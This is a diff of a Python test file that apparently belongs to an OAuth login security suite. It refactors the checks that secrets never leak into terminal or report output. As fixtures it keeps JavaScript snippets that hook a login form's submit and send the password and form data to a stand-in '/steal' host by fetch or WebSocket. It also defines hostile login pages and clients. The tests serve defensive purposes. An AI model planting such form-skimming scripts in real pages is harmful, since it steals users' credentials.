@@ -13,6 +13,7 @@ from urllib.parse import quote, quote_plus
 
 import pytest
 from faulty_servers import Answer, HostileServer
+from outputs import every_output, leaked
 from run import ROOT, SANDBOX_YAML, run_suite, write_environment
 
 from suite.wire.browser import chromium_path
@@ -78,24 +79,14 @@ def test_no_secret_in_any_output(tmp_path, login):
     assert "eyJ" in kinds and any(s in kinds for s in RECOGNISABLE.values()), "the witness saw no tokens or secrets"
     assert len(secrets) > 40, f"only {len(secrets)} secrets witnessed"
 
-    outputs = {"terminal": result.stdout + result.stderr}
-    for path in reports.rglob("*"):
-        if path.is_file():
-            outputs[str(path.relative_to(tmp_path))] = path.read_text(encoding="utf-8", errors="replace")
+    outputs = every_output(result.stdout + result.stderr, reports, tmp_path)
     assert any("allure-results" in name for name in outputs) and "reports/junit.xml" in outputs
     assert "--showlocals is turned off: local variables hold secrets" in outputs["terminal"]
     assert re.search(
         r"\[(access_token|refresh_token|authorization code|code_verifier|cookie redacted)\]", "".join(outputs.values())
     ), "no masked value shown anywhere"
 
-    # Whole secrets, and the head and tail of each: pytest cuts long values in the middle.
-    fragments = {secret: {secret, secret[:16], secret[-16:]} if len(secret) >= 32 else {secret} for secret in secrets}
-    leaks = [
-        (name, secret[:8] + "...")
-        for name, content in outputs.items()
-        for secret, parts in fragments.items()
-        if any(part in content for part in parts)
-    ]
+    leaks = leaked(outputs, secrets, shown=8)
     assert not leaks, f"secrets found in output: {leaks[:10]}"
     jwt = re.compile(r"eyJ[\w-]{10,}\.eyJ[\w-]{10,}")
     assert not [name for name, content in outputs.items() if jwt.search(content)], "a JWT reached an output"
@@ -174,7 +165,8 @@ def test_every_encoding_of_a_secret_is_scrubbed_from_exchanges_whatever_the_cont
 
 
 HOSTILE_CLIENTS = {  # for an environment file: the secret comes from T_SECRET
-    "service": "  service:\n    client_id: hostile-service\n    client_secret: ${T_SECRET}\n    scope: visma_api:read\n",
+    "service": "  service:\n    client_id: hostile-service\n    client_secret: ${T_SECRET}\n"
+    "    scope: visma_api:read\n",
     "web": "  web:\n    client_id: hostile-web\n    client_secret: ${T_SECRET}\n"
     "    redirect_uri: https://web.app.local/callback\n    scope: openid\n",
     "spa": "  spa:\n    client_id: hostile-spa\n    redirect_uri: https://spa.app.local/callback\n    scope: openid\n",
@@ -322,9 +314,11 @@ def _hostile_login_page(action: str, script: str = "") -> Answer:
 
 
 STEAL_BY_SCRIPT = """document.forms[0].onsubmit = event => { event.preventDefault();
-  fetch("{elsewhere}/steal", {method: "POST", mode: "no-cors", body: new URLSearchParams(new FormData(event.target))}); };"""
+  fetch("{elsewhere}/steal", {method: "POST", mode: "no-cors",
+    body: new URLSearchParams(new FormData(event.target))}); };"""
 STEAL_BY_WEB_SOCKET = """document.forms[0].onsubmit = event => { event.preventDefault();
-  new WebSocket("{elsewhere}/steal?p=" + encodeURIComponent(document.getElementById("password").value)); };"""
+  new WebSocket("{elsewhere}/steal?p="
+    + encodeURIComponent(document.getElementById("password").value)); };"""
 HOSTILE_LOGIN_PAGES = {  # how the page sends the password away: (login page, what the suite says)
     "form-action": (lambda issuer, elsewhere: _hostile_login_page(elsewhere + "/steal"), "is not the issuer's origin"),
     "plain-http": (lambda issuer, elsewhere: _hostile_login_page("http://login.example/steal"), "over plain HTTP"),
@@ -510,14 +504,7 @@ def test_no_encoding_of_any_secret_in_any_output_of_a_real_server_run(tmp_path, 
         terminal += certificate.stdout + certificate.stderr
         assert (reports / "certificate.html").exists(), certificate.stderr
 
-    outputs = {"terminal": terminal}
-    outputs.update(
-        {
-            str(p.relative_to(tmp_path)): p.read_text(errors="replace")
-            for p in reports.rglob("*")
-            if p.is_file() and p.suffix != ".pdf"
-        }
-    )
+    outputs = every_output(terminal, reports, tmp_path)
     # the single-file HTML report carries its data and attachments base64-encoded: each is read
     # decoded, as it is shown, and the page around them apart (the base64 the page wraps them in is
     # Allure's, not an encoding of a secret that the suite let through)
